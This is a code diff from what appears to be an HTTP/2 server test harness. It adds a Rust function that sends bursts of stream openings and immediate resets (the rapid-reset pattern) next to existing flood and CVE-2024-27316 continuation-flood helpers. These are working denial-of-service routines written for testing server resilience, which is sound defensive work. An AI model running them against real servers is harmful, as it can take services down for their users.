@@ -139,6 +139,24 @@ pub async fn flood(address: SocketAddr, count: u32, path: &str, authority: &str)
     super::within(async { while matches!(stream.read(&mut [0; 4096]).await, Ok(1..)) {} }).await;
 }
 
+/// Opens and resets `count` streams in one piece, then asks once more on the same connection, and gives what comes of that.
+pub async fn reset_at_once(address: SocketAddr, count: u32, path: &str, authority: &str) -> Outcome {
+    let mut stream = connect(address).await;
+    let block = block(&[(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]);
+    let open = |id| frame(HEADERS, END_STREAM | END_HEADERS, id, &block);
+    let last = 2 * count + 1;
+    let resets =
+        (0..count).map(|index| 2 * index + 1).flat_map(|id| [open(id), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())]);
+    let all = resets.chain([open(last)]).collect::<Vec<_>>().concat();
+    let _ = stream.write_all(&all).await;
+    loop {
+        match next(&mut stream).await {
+            (id, outcome) if id == last || outcome == Outcome::Closed => return outcome,
+            _ => {}
+        }
+    }
+}
+
 /// Sends a header block that is never complete, `count` frames of 16 KiB (CVE-2024-27316), until the connection ends.
 pub async fn continuation_flood(address: SocketAddr, count: usize) {
     let mut stream = connect(address).await;
